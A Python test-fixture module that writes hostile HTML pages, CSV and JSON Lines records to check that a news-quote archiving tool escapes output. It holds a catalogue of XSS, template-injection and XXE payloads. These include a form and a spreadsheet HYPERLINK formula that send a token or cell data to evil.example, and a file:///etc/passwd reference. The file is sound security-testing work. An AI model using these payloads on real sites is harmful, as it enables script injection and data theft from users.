"""An archive of pages that mean harm: what a browser might run stands in every field of them.

Some are pages and JSON Lines as a crawler brings them, read by all steps; some are made as the steps would make them,
so that each name, outlet, thing and id holds what no step would find there. All that could run asks for ENEMY or opens
a dialog.
"""

from __future__ import annotations

import html
import json
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path

from tests.record.factory import Deed, Told, deeds_of

import onrecord
from onrecord.capture import Given
from onrecord.record import Signature, Store

ENEMY = "evil.example"

# What stands as markup in a page if it is not written as text.
MARKUP = {
    "script": "</script><script>alert(1)</script>",
    "title": "</title></textarea></style><script src=//evil.example/x.js></script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single": "'><svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "frame": "<iframe src=https://evil.example/f></iframe><object data=https://evil.example/o></object>",
    "form": "</bdi></mark></pre><form action=https://evil.example/p><input name=token><button>Keep</button></form>",
    "link": "<a href=javascript:alert(1)>go</a><base href=https://evil.example/>",
    "refresh": "<meta http-equiv=refresh content=0;url=https://evil.example/><link rel=stylesheet href=//evil.example>",
    "comment": '--><!--x--><img src=x onerror=alert(1)><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "cdata": "]]><script>alert(1)</script><![CDATA[",
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;<img src=x onerror=alert(1)>">',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "bidi": "\u202egnp.exe\u2066\u2067\u202d<img src=x onerror=alert(1)>\u200f\u061c",
    "long": "<img/src=x/onerror=alert(1)>" + "A" * 3000,
}
# What only does harm within a tag, a template, a table or another reading of the same bytes.
OTHERS = {
    "handler": '" autofocus onfocus=alert(1) style="background:url(https://evil.example/s)" x="',
    "bare": "x onmouseover=alert(1) onload=alert(1) src=https://evil.example/b",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ settings.token }} {# #}",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&#60;img src=x onerror=alert(1)&#62;&amp;lt;b&gt;",
    "markdown": "[go](javascript:alert(1)) ![x](https://evil.example/x.png) <javascript:alert(1)>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "wide": "＜script＞alert(1)＜/script＞＂＞＜img src=x onerror=alert(1)＞",
    "quotes": "\" ' ` „ ‚ ‘ « » ‹ › ＂ ＇ ″ \\\" \\' \\u003cscript\\u003e",
    "controls": "\x00<\x00script>\x01\x08\x0b\x0c\x1b[31m\x7f\x85\u2028\u2029\ufeff\ufffe\uffff<scr\x00ipt>",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
}
PAYLOADS = MARKUP | OTHERS
ADDRESSES = (
    "javascript:alert(1)//https://harbourledger.example/x",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    " vbscript:msgbox(1)",
    "//evil.example/x",
    'https://harbourledger.example/"onmouseover="alert(1)"><script>alert(1)</script>',
    "https://127.0.0.1:8765@evil.example/x",
    "https://harbourledger.example/\x01\x1f",
    "https:\\\\evil.example\\x",
    "file:///etc/passwd",
    "/leave",
)
# The id of somebody whom no step would call so.
NOBODY = 'person.x"><img src=x onerror=alert(1)>'


def write(folder: Path) -> Path:
    """Write the pages of the archive into a folder."""
    folder.mkdir(parents=True)
    rows = ["file,url,captured,outlet"]
    lines = []
    for at, payload in enumerate(PAYLOADS.values()):
        address = ADDRESSES[at % len(ADDRESSES)]
        # A file system takes all but the first two in a name; of the third a table of pages makes a folder.
        file = f"{at} {payload[:60].translate({0: None, ord('/'): '∕', ord(chr(92)): '⧵'})}.html"
        (folder / file).write_text(_page(payload), encoding="utf-8")
        cells = (file, address, "2031-05-05", f"Courier {payload}")
        rows.append(",".join('"' + cell.replace('"', '""') + '"' for cell in cells))
        lines.append(_line(at, payload, address))
    (folder / "captures.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    lines.append("{broken <img src=x onerror=alert(1)>")
    (folder / "pages.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    (folder / "empty <img src=x onerror=alert(1)>.html").write_text("<script>alert(1)</script>", encoding="utf-8")
    return folder


def make(folder: Path) -> Path:
    """A record of the archive, read by all steps, and of the pages that are made by hand."""
    path = folder / "<img src=x onerror=alert(1)>.db"
    with onrecord.Record(path) as record:
        record.add(write(folder / "pages"))
    with Store(path, write=True) as store:
        for payload in PAYLOADS.values():
            for told in _told(payload):
                store.put(*told.made())
            store.put(*deeds_of(_deed(payload), outlet=f"Bulletin {payload}", source=f"deed {payload}"))
        store.place()
        store.keep_search("by name " + MARKUP["attribute"], {"q": MARKUP["script"], "outlet": MARKUP["single"]})
        store.put(*Told(title="Two names", lines=[(one, f"I am {one}") for one in ("Jonna Pell", "Jona Pell")]).made())
        store.decide_same("Jonna Pell", "Jona Pell", Signature(MARKUP["script"], f"because {MARKUP['attribute']}"))
        said = next(iter(store.statements())).item.id
        store.accept(said, Signature(MARKUP["single"], f"seen {MARKUP['script']}"))
    return path


def harmless(folder: Path) -> Path:
    """A record of the same pages made by hand, with words in place of what might run."""
    path = folder / "harmless.db"
    with Store(path, create=True, write=True) as store:
        for told in _told("Pell"):
            store.put(*told.made())
        store.put(*deeds_of(_deed("Pell"), outlet="Bulletin Pell", source="deed"))
        store.place()
        store.keep_search("by name", {"q": "drones", "outlet": "Ledger"})
    return path


def name(payload: str) -> str:
    """Who speaks on the pages made by hand."""
    return f"Mira {payload}"


def _paragraphs(payload: str) -> Iterator[str]:
    never = "We will never open the Orlo mine again while I hold this office"
    yield f"The Orlo mine above Brisk stays closed after the flood of last month {payload}, inspectors said on Sunday."
    yield f"“{never}, {payload}, and nobody will make us,” minister Mira Valdin told reporters in Brisk on Sunday."
    yield f"Teun Orlo {payload} Brandt, a spokesman for the miners, said the ministry had {payload} promised new pumps."
    yield f"Norland delivered twelve S-400 {payload} launchers to Tarsia in May, defence minister Osman Yarl said."
    yield f"The mine was dug by two brothers from Aldmark a hundred years ago {payload}."


def _page(payload: str) -> str:
    """A page of HTML whose text shows a payload, and which brings the same as markup as well."""
    text = html.escape(payload)
    body = "".join(f"<p>{html.escape(line)}</p>" for line in _paragraphs(payload))
    return (
        f"<!doctype html><html><head><title>Orlo mine stays closed {text} - Ledger {text}</title>"
        f'<meta name="author" content="{text}"><meta property="og:site_name" content="Ledger {text}">'
        f'<meta property="og:url" content="{html.escape(ADDRESSES[0])}">'
        f'<link rel="canonical" href="{html.escape(ADDRESSES[5])}">'
        f"<script>alert(1)</script></head><body onload=alert(1)><article><h1>Orlo mine stays closed {text}</h1>"
        f'<p class="byline">By <a rel="author" href="javascript:alert(1)">Jonna {text} Pell</a></p>'
        f"<time datetime='2031-05-04'>4 May 2031</time><img src=x onerror=alert(1)>"
        f"<figure><figcaption>Pumps at the mine {text}</figcaption></figure>{body}</article>{payload}</body></html>"
    )


def _line(number: int, payload: str, address: str) -> str:
    """A record of JSON Lines with a payload in each of its fields, and in one that nobody asked for."""
    told = {
        "id": f"{number}{payload}",
        "url": address,
        "title": f"Mine above Brisk is given up {payload}",
        "outlet": f"Gazette {payload}",
        "published": "2031-05-05",
        "captured": "2031-05-06" if number % 2 else payload,
        payload: payload,
        "text": "\n\n".join(_paragraphs(payload)),
    }
    # Half a pair of surrogates: an escape that JSON allows and that stands for no character.
    return json.dumps(told)[:-2] + ' \\ud83d \\udfff"}'


def _told(payload: str) -> Iterator[Told]:
    """Two reports of one utterance, worded a little differently, with a payload wherever a text may stand."""
    who = name(payload)
    for outlet, words in (("Ledger", "twelve drones"), ("Herald", "thirteen drones and no more")):
        yield Told(
            title=f"Drones for Tolm, the {outlet} {payload} learns",
            lines=[(who, f"We will send {payload} {words} to the harbour of Tolm before the winter {payload} comes")],
            outlet=f"{outlet} {payload}",
            source=f"{outlet} {payload}",
            given=Given(url=payload, record_id=payload, captured="2031-05-06"),
            ids={who: NOBODY if payload == MARKUP["script"] else f"person.{sha256(payload.encode()).hexdigest()[:9]}"},
        )


def _deed(payload: str) -> Deed:
    return Deed(
        f"{payload} Norland delivered forty {payload} Kestrel launchers to Tarsia {payload} yesterday.",
        trigger="delivered",
        actor=(f"{payload} Norland", None),
        recipient=(f"Tarsia {payload}", "TUR"),
        item=(f"{payload} Kestrel launchers", None),
        quantity=40,
        claimed=True,
    )
